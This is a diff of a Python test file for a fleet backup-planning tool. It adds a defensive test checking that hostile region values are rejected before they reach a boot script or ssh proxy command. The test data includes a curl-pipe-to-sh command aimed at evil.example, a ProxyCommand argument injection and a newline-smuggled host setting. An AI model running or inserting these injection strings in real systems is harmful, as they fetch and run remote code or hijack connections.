@@ -76,7 +76,7 @@ def test_clusters_sharing_a_bucket_need_disjoint_prefixes() -> None:
 
 def test_external_endpoints_and_disabled_backups_get_no_bucket() -> None:
     def change(data: dict[str, Any]) -> None:
-        data["clusters"][0]["backup"]["target"] = {"kind": "s3", "bucket": "minio-bk", "endpoint": "http://minio:9000"}
+        data["clusters"][0]["backup"]["target"] = {"kind": "s3", "bucket": "minio-bk", "endpoint": "https://minio:9000"}
         data["clusters"][2]["backup"]["enabled"] = False
 
     assert set(plan_backup_targets(fleet_variant(change))) == {"mongo-main"}
@@ -108,3 +108,13 @@ def test_a_bad_spec_fails_with_the_located_spec_error(tmp_path: Path) -> None:
     bad.write_text((REPO / "fleet.example.yaml").read_text().replace("replicas: 2\n", "replicas: 5\n", 1))
     with pytest.raises(SpecError, match=r"fleet.yaml:\d+: clusters.0.replicas: 5 replicas need 6 hosts"):
         _run_main(bad)
+
+
+@pytest.mark.parametrize("region", ["us-east-1; curl -s https://evil.example/x | sh", 'us-east-1" -o ProxyCommand="sh',
+                                    "us-east-1\nrepo1-host=evil.example"])
+def test_a_fleet_region_that_is_not_an_aws_region_never_reaches_a_boot_script_or_proxy_command(region: str) -> None:
+    def hostile(data: dict[str, Any]) -> None:
+        data["fleet"]["region"] = region
+
+    with pytest.raises(SpecError, match=r"variant.yaml:\d+: fleet.region: expected an AWS region"):
+        fleet_variant(hostile)
